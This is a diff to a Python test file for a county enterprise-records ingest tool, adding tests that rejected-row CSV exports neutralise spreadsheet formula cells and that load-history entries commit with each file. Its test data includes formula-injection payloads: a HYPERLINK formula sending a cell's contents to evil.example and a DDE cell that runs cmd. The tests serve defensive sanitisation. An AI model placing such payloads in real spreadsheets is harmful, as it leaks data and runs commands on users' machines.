@@ -7,7 +7,7 @@ from datetime import date
 import pytest
 
 import graph.ingest as ingest
-from county import AS_OF, BLACKLIST_HEADERS, E, ENTERPRISE_HEADERS, NAMES, OLD_REG_NO, write_csv
+from county import AS_OF, BLACKLIST_HEADERS, E, ENTERPRISE_HEADERS, NAMES, OLD_REG_NO, PENALTY_HEADERS, write_csv
 from graph.errors import FileRejected
 from graph.ingest import load_file
 from graph.queries.check import check
@@ -63,6 +63,36 @@ def test_rejects_are_written_with_row_field_and_reason(store, county_files, home
     assert rows[1]["企业名称"] == "无代码公司" and rows[2]["限制期限自"] == "2023-02-30"
 
 
+# What departments' cells may begin with that Excel would run, and a cell that already begins with a quote.
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1", "'=已加引号", "'普通文本", "普通文本", "=", ""]
+
+
+def test_rejects_files_make_formula_cells_inert_and_keep_the_text_recoverable(store, tmp_path, home):
+    from graph.formula_cells import as_sent
+    rows = [[str(i), "91XXXXXXXXXXXXXXXX", "某公司", "县市场监督管理局", f"罚〔2026〕{i}号", "2026-03-01", cell, "5000元",
+             "", "罚款", cell] for i, cell in enumerate(FORMULAS, 1)]
+    path = write_csv(tmp_path / "penalties.csv", [*PENALTY_HEADERS[:-1], "=危险的列名"], rows)
+    report = load_file(store, path, home=home)
+    assert report.rejected == len(FORMULAS)
+    with open(report.rejects_file, encoding="utf-8-sig", newline="") as fh:
+        header, *written = list(csv.reader(fh))
+    assert header[-1].startswith("注：") and "remove one leading '" in header[-1]
+    assert header[-2] == "'=危险的列名" and as_sent(header[-2]) == "=危险的列名"
+    for cells, sent in zip(written, FORMULAS):
+        violation, remark = cells[3 + PENALTY_HEADERS.index("违法行为类型")], cells[-1]
+        assert violation == remark
+        assert not violation.startswith(("=", "+", "-", "@", "\t", "\r")), violation
+        assert as_sent(violation) == sent  # exactly the text sent
+
+
+def test_rejects_without_formula_cells_are_written_as_sent(store, county_files, home):
+    report = load_file(store, county_files["blacklist"], home=home)
+    with open(report.rejects_file, encoding="utf-8-sig", newline="") as fh:
+        header = next(csv.reader(fh))
+    assert not any(h.startswith("注：") for h in header)
+
+
 def test_dry_run_writes_nothing(store, county_files, home):
     version = store.data_version()
     report = load_file(store, county_files["blacklist"], home=home, dry_run=True)
@@ -90,6 +120,31 @@ def test_a_crash_in_the_middle_of_a_file_leaves_the_store_as_before(county, coun
         load_file(county, path, home=home)
     assert snapshot(county) == before and county.data_version() == version
     assert profile(county, E["CLEAR"], ON)["enterprise"]["name"] == NAMES["CLEAR"]
+
+
+def test_the_load_history_entry_commits_with_the_file(store, county_files, home, monkeypatch):
+    """The entry is written in the file's transaction: a load that dies after writing it but before its commit
+    leaves neither the rows nor the entry; a load that commits leaves both, with the version it made."""
+    load_file(store, county_files["enterprise"], home=home)
+    before, version, history = snapshot(store), store.data_version(), store.load_history()
+    real = type(store)._log_load
+
+    def dies_before_the_commit(conn_or_tx, entry):
+        real(conn_or_tx, entry)
+        raise KeyboardInterrupt  # the process stopped between the entry and the commit
+
+    monkeypatch.setattr(type(store), "_log_load", staticmethod(dies_before_the_commit))
+    with pytest.raises(KeyboardInterrupt):
+        load_file(store, county_files["blacklist"], home=home)
+    assert (snapshot(store), store.data_version(), store.load_history()) == (before, version, history)
+
+    monkeypatch.undo()
+    report = load_file(store, county_files["blacklist"], home=home)
+    *_, entry = store.load_history()
+    assert len(store.load_history()) == len(history) + 1
+    assert (entry["file"], entry["rows"], entry["loaded"], entry["rejected"], entry["rejects_file"]) == (
+        report.file, 12, 9, 3, report.rejects_file)
+    assert entry["data_version"] == report.data_version == store.data_version() > version
 
 
 def test_record_by_registration_number_before_the_registry_is_merged(store, county_files, home, tmp_path):
